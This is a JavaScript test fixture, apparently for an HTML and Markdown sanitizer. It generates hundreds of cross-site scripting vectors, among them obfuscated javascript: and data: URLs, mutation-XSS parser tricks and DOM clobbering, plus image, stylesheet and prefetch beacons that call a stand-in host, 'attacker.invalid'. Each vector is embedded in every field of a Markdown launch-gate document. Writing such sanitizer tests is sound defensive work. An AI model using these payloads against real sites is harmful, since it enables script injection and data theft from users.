// Vectors: markup that would run, call out or leave if it came through, and the documents that carry each to every place of a page.

/** What a vector runs if it can: the trap of the page notices it. */
const RUN = "trap(1)";
/** A host that is nobody's. */
const AWAY = "attacker.invalid/p.png";

const TAGS = ["img", "image", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "embed", "marquee", "form", "button", "select", "textarea", "a", "p", "math", "style", "link", "base", "x-y", "keygen", "portal"];
const EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onanimationstart", "onpointerrawupdate", "onbeforematch", "onscrollend"];

const handlers = TAGS.flatMap((tag, at) =>
  [0, 1, 2, 3].map((step) => `<${tag} src=x ${EVENTS[(at + step * 3) % EVENTS.length]}=${RUN} autofocus tabindex=0 open>`),
);

const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java&Tab;script:", "&#x6A;avascript:", "\u0001javascript:", " javascript:", "javascript&colon;", "vbscript:", "data:text/html,<script>trap(1)</script>", "data:text/html;base64,PHNjcmlwdD50cmFwKDEpPC9zY3JpcHQ+", "blob:", "view-source:javascript:", "feed:javascript:", "jar:javascript:"];
const schemes = SCHEMES.flatMap((scheme) => [
  `<a href="${scheme}${RUN}">a</a>`,
  `[a](<${scheme}${RUN}>)`,
  `<iframe src="${scheme}${RUN}"></iframe>`,
  `<form action="${scheme}${RUN}"><button autofocus>a</button></form>`,
  `<svg><a xlink:href="${scheme}${RUN}"><text>a</text></a></svg>`,
]);

const HOSTS = ["//", "/\\", "\\\\", "https:", "https:/", "HTTPS://", "/\t/", "&Tab;//", "\f//", " //", "/&NewLine;/", "&#47;&#47;", "&sol;&bsol;", "\\/", "http:\\\\", ".//../..//", "///", "////"];
const pictures = HOSTS.flatMap((host) => [
  `<img src="${host}${AWAY}">`,
  `<img alt=">" src='${host}${AWAY}'>`,
  `<image alt='>' src="${host}${AWAY}">`,
  `![a](<${host}${AWAY}>)`,
  `![a][r]\n\n[r]: <${host}${AWAY}>`,
  `<picture><source srcset="${host}${AWAY}"><img srcset="${host}${AWAY} 1x" src="${host}${AWAY}"></picture>`,
  `<p background="${host}${AWAY}" style="background:url(${host}${AWAY})">a</p>`,
]);

const loaders = ["link rel=stylesheet href", "link rel=prefetch href", "link rel=dns-prefetch href", "base href", "meta http-equiv=refresh content=0;url", "video poster", "audio src", "track src", "embed src", "object data", "iframe src", "frame src", "script src", "input type=image src", "table background", "body background", "q cite", "a ping", "use href", "feImage href", "image xlink:href", "portal src"].map(
  (tag) => `<${tag}="https://${AWAY}"></${tag.split(" ")[0]}>`,
);

// What parsers have taken for something else when they read it again.
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><style>&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<title><a title="</title><img src=x onerror=${RUN}>">`,
  `<textarea><a title="</textarea><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?php ><img src=x onerror=${RUN}>?>`,
  `<!doctype html><script>${RUN}</script>`,
  `<p title="&#xF8F0;">x</p>&#xF8F1;" tabindex=0 autofocus onfocus="${RUN}" y="</p>`,
  `<p title="&#0;0&#0;">x</p>&#0;1&#0;" tabindex=0 autofocus onfocus="${RUN}">`,
  `<img src="x\` onerror=${RUN} \`">`,
  `<a title='"><img src=x onerror=${RUN}>'>a</a>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  `<select><noembed></select><img src=x onerror=${RUN}></noembed>`,
  `</main></body></html><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src=x onerror=${RUN}`,
  `<img\u0000src=x onerror=${RUN}>`,
  `<a href=x id=search.>a</a><p id=shapes.>b</p><form name=body><input name=firstChild></form>`,
  `<a id=trap><a id=trap name=url href=x>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
  `<style>@import "https://${AWAY}"; * { background: url(https://${AWAY}) }</style>`,
  `<div style="width:expression(${RUN});background:url(https://${AWAY})">a</div>`,
  `"><img src=x onerror=${RUN}>`,
  `' onerror=${RUN} '`,
  `" onmouseover=${RUN} autofocus onfocus=${RUN} "`,
  `\`\`><img src=x onerror=${RUN}>`,
  `{{7*7}}{% raw %}<img src=x onerror=${RUN}>`,
  `\u2028</script><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `\\<img src=x onerror=${RUN}\\>`,
  `<b><p><i></b><img src=x onerror=${RUN}></i>`,
  `<table><td><img src=x onerror=${RUN}><script>${RUN}</script>`,
];

/** All of them. */
export const VECTORS = [...handlers, ...schemes, ...pictures, ...loaders, ...mutations];

/** A document that has the vector wherever somebody writes. */
export function document(vector, number) {
  const line = vector.replace(/[\n\r]+/g, " ");
  const cell = line.replaceAll("|", "\\|");
  const quoted = JSON.stringify(line);
  return `---
title: ${quoted}
owner: ${quoted}
last_reviewed: ${quoted}
watches: [${quoted}]
---

# Launch gates ${number} ${line}

Owner: ${line}

| Gate | Owner | Status | Evidence | Notes |
|---|---|---|---|---|
| ${cell} | ${cell} | ${cell} | \`${cell}\` | ${cell} |
| Pump ${number} | Ann | Done | ${cell} | <!-- ${cell} --> |

## ${line}

All PASS required:

- [x] ${line}
- [ ] ${line}

[a](x.md "${line}") ![${line}](x.png "${line}") [${line}](<${line}>) \`${line}\` a[^${number}] **${line}** [${line}]

[^${number}]: ${line}

> [!NOTE]
> ${line}

${line}
: ${line}

\`\`\`${line}
${line}
\`\`\`

\`\`\`mermaid
graph TD
  a[${line}] -->|${line}| b("${line}")
  click a "${line}" "${line}"
\`\`\`

\`\`\`mermaid
gantt
  title ${line}
  dateFormat YYYY-MM-DD
  section ${line}
  ${line.replaceAll(":", " ")} :milestone, 2026-03-0${1 + (number % 9)}, 0d
\`\`\`

| ID | Risk | Likelihood | Impact | Mitigation | Owner |
|---|---|---|---|---|---|
| R-${number} | ${cell} | High | High | ${cell} | ${cell} |

| Waiver | Reason | Expires | Approver |
|---|---|---|---|
| Pump ${number} | ${cell} | 2026-12-28 | ${cell} |

${vector}

${vector.replaceAll("&", "&amp;")}
`;
}

/** A document that is nothing but the vector: no blank line or label stands before it. */
export const bare = (vector) => `${vector}\n`;
